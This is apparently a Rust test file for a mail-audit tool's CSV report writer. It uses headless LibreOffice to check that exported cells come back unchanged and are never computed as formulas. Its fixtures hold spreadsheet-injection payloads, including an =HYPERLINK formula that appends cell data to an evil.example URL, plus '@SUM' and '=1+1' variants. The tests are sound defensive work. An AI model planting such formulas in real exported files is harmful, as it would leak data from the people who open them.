//! A report opened by a real spreadsheet: no row broken, no cell changed, nothing computed.

use std::path::{Path, PathBuf};
use std::process::Command;

use sent_audit::detect::JudgementKey;
use sent_audit::finding::{
    Author, Conclusion, Contact, ContactKind, Field, Finding, Owner, Place, Recipient, Verdict,
};
use sent_audit::mailbox::{Custodian, Locator, MailboxId, Organisation};
use sent_audit::report::{Audience, Dialect, Format, ReportSettings, write};
use sent_audit::store::{Decision, Import, Judged, RunRecord, Store, evidence_digest};
use tempfile::TempDir;

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1;\"click\")";
const LANDMINE: &str = "x;=HYPERLINK(\"https://evil.example\")";

/// `true` if there is a spreadsheet; otherwise says that the test is skipped, or fails if none may be skipped.
pub(crate) fn has_spreadsheet() -> bool {
    let found = Command::new("soffice")
        .arg("--version")
        .output()
        .is_ok_and(|run| run.status.success());
    let required = std::env::var_os("SENT_AUDIT_REQUIRE_ALL").is_some();
    assert!(
        found || !required,
        "soffice is missing: install libreoffice-calc"
    );
    if !found {
        eprintln!("skipped: soffice is missing (Debian: libreoffice-calc)");
    }
    found
}

/// Converts `files` as a spreadsheet does that was told that `separator` separates; returns the new files.
pub(crate) fn converted(files: &[PathBuf], separator: u8, format: &str) -> Vec<PathBuf> {
    let filter = format!("--infilter=Text - txt - csv (StarCalc):{separator},34,76");
    let extension = format.split(':').next().unwrap();
    let out = format!("{extension}-by-{separator}");
    saved_as(files, Some(filter), format, &out)
}

/// Has a spreadsheet open `files` and save them as `format` into the directory `out` beside them; returns the new files.
pub(crate) fn saved_as(
    files: &[PathBuf],
    filter: Option<String>,
    format: &str,
    out: &str,
) -> Vec<PathBuf> {
    let extension = format.split(':').next().unwrap();
    let above = files[0].parent().unwrap();
    let out = above.join(out);
    let run = Command::new("soffice")
        .args(["--headless", "--norestore"])
        // A profile of its own: two LibreOffices with one profile wait for each other.
        .arg(format!(
            "-env:UserInstallation=file://{}",
            above.join("profile").display()
        ))
        .args(filter)
        .args(["--convert-to", format, "--outdir"])
        .arg(&out)
        .args(files)
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    let name = |file: &PathBuf| {
        out.join(file.file_stem().unwrap())
            .with_extension(extension)
    };
    files.iter().map(name).collect()
}

pub(crate) fn records(file: &Path, separator: u8) -> Vec<Vec<String>> {
    let text = std::fs::read_to_string(file).unwrap();
    csv::ReaderBuilder::new()
        .delimiter(separator)
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .into_records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// `1` and `1.000` are one number.
pub(crate) fn is_same(one: &str, two: &str) -> bool {
    one == two
        || matches!((one.parse::<f64>(), two.parse::<f64>()), (Ok(a), Ok(b)) if a.total_cmp(&b).is_eq())
}

/// Opens and saves the tables that hold foreign text; each must come back as it was.
#[track_caller]
fn check(separator: u8) {
    let report = Report::written(separator, Dialect::Excel);
    let files = ["findings", "contacts", "recipients", "clients"].map(|name| report.file(name));
    let format = format!("csv:Text - txt - csv (StarCalc):{separator},34,76,1");
    for (file, again) in files.iter().zip(converted(&files, separator, &format)) {
        let (written, opened) = (records(file, separator), records(&again, separator));
        assert_eq!(written.len(), opened.len(), "rows of {}", file.display());
        assert!(written.len() > 1, "{} is empty", file.display());
        for (written, opened) in written.iter().zip(&opened) {
            assert_eq!(written.len(), opened.len(), "columns of {}", file.display());
            for (written, opened) in written.iter().zip(opened) {
                assert!(
                    is_same(written, opened),
                    "{written:?} came back as {opened:?}"
                );
            }
        }
    }
    // Also when the spreadsheet is told the wrong separator, and splits cells.
    for separator in [b',', b';', b'\t'] {
        assert_eq!(formulas(&files, separator), 0, "by {separator}");
    }
}

/// How many cells a spreadsheet would compute.
fn formulas(files: &[PathBuf], separator: u8) -> usize {
    converted(files, separator, "fods")
        .iter()
        .map(|sheet| {
            std::fs::read_to_string(sheet)
                .unwrap()
                .matches("table:formula=")
                .count()
        })
        .sum()
}

/// A report full of what a spreadsheet could take for something else.
pub(crate) struct Report {
    pub(crate) directory: PathBuf,
    _above: TempDir,
}

impl Report {
    fn written(separator: u8, dialect: Dialect) -> Self {
        // As much as a cell holds.
        Self::with_note(separator, dialect, &format!("={}", "n".repeat(32_766)))
    }

    /// With what a reviewer wrote.
    pub(crate) fn with_note(separator: u8, dialect: Dialect, note: &str) -> Self {
        let above = tempfile::tempdir().unwrap();
        let directory = above.path().join("report");
        let run = RunRecord {
            id: "run".to_owned(),
            ..RunRecord::default()
        };
        let mut store = Store::in_memory().unwrap();
        store.begin_run(&run).unwrap();
        let mailbox = MailboxId {
            custodian: "ana@acme.example".to_owned(),
            account: "ana".to_owned(),
            mailbox: "Enviados".to_owned(),
        };
        let findings = [
            finding("f-1", FORMULA, LANDMINE),
            finding("f-2", LANDMINE, FORMULA),
        ];
        let decision = Decision {
            status: "escalated".to_owned(),
            note: note.to_owned(),
            reviewer: "Leo".to_owned(),
            reviewed_on: "2024-07-01".to_owned(),
            evidence: evidence_digest(&findings[0]),
        };
        store
            .add_decisions(&[("f-1".to_owned(), decision)], &Import::default())
            .unwrap();
        let judged = Judged {
            locator: Locator::Uid {
                uidvalidity: 1,
                uid: 1,
            },
            custodian: None,
            sent_at: None,
            message_id: String::new(),
            findings: findings.to_vec(),
            is_gated: true,
            partly: Vec::new(),
        };
        let key = JudgementKey::default();
        store.commit(&mailbox, &key, &[judged]).unwrap();
        let settings = ReportSettings {
            directory: directory.clone(),
            formats: Format::ALL.to_vec(),
            dialect,
            separator,
            audience: Audience::All,
            custodians: Vec::new(),
            roster: vec![Custodian {
                id: "ana@acme.example".to_owned(),
                last_day: Some("2024-06-28".parse().unwrap()),
                ..Custodian::default()
            }],
            organisation: Organisation {
                domains: vec!["acme.example".to_owned()],
                ..Organisation::default()
            },
            clients: None,
            privileged: Vec::new(),
            protected: Vec::new(),
            queries: Vec::new(),
            matter: String::new(),
            redact: false,
            command_line: Vec::new(),
            today: None,
        };
        write(&store, &run, &settings, None).unwrap();
        Self {
            directory,
            _above: above,
        }
    }

    pub(crate) fn file(&self, name: &str) -> PathBuf {
        self.directory.join(name).with_extension("csv")
    }
}

fn finding(id: &str, subject: &str, notice: &str) -> Finding {
    let contact = |kind, value: &str, written: &str| Contact {
        kind,
        value: value.to_owned(),
        written: written.to_owned(),
        owner: Owner::Custodian,
        place: Place::Signature,
        part: "1.2".to_owned(),
        confidence: 90,
    };
    Finding {
        id: id.to_owned(),
        custodian: "ana@acme.example".to_owned(),
        sent_at: Some("2024-06-12T08:00:00Z".parse().unwrap()),
        from: "ana@acme.example".to_owned(),
        subject: subject.to_owned(),
        message_id: "-1@acme.example".to_owned(),
        sha256: "0".repeat(64),
        size: 12_345,
        recipients: vec![Recipient {
            address: "bea@client.example".to_owned(),
            display_name: "@SUM(1;2), \"Núñez\"".to_owned(),
            field: Field::To,
        }],
        conclusion: Conclusion {
            query_id: "notice".to_owned(),
            query: "notice@1+00000000".to_owned(),
            verdict: Verdict::Solicitation,
            confidence: 100,
            author: Author::Own,
            notice: notice.to_owned(),
            excerpt: format!(
                "Señoras y señores:\r\n\r\n- Àngel, größer\n\t=1+1\n\"{}\"",
                "x".repeat(40_000)
            ),
            reason: "'invited', \"to follow\"\n+1".to_owned(),
            language: "es".to_owned(),
            successor: "＝1+1".to_owned(),
            successor_reach: None,
            contacts: vec![
                contact(ContactKind::Phone, "tel:+34600111222", "+34 600 111 222"),
                contact(ContactKind::Phone, "600111222", "600 11 12 22"),
                contact(
                    ContactKind::Messenger,
                    "https://wa.example/34600111222",
                    "@ana",
                ),
            ],
            evidence: Vec::new(),
        },
    }
}

#[test]
fn commas_survive_a_spreadsheet() {
    if has_spreadsheet() {
        check(b',');
    }
}

#[test]
fn semicolons_survive_a_spreadsheet() {
    if has_spreadsheet() {
        check(b';');
    }
}

/// Proves that the test above would see a formula: in the plain dialect it is one.
#[test]
fn a_spreadsheet_computes_what_is_not_made_safe() {
    if has_spreadsheet() {
        let report = Report::written(b',', Dialect::Plain);
        assert!(formulas(&[report.file("findings")], b',') > 0);
    }
}
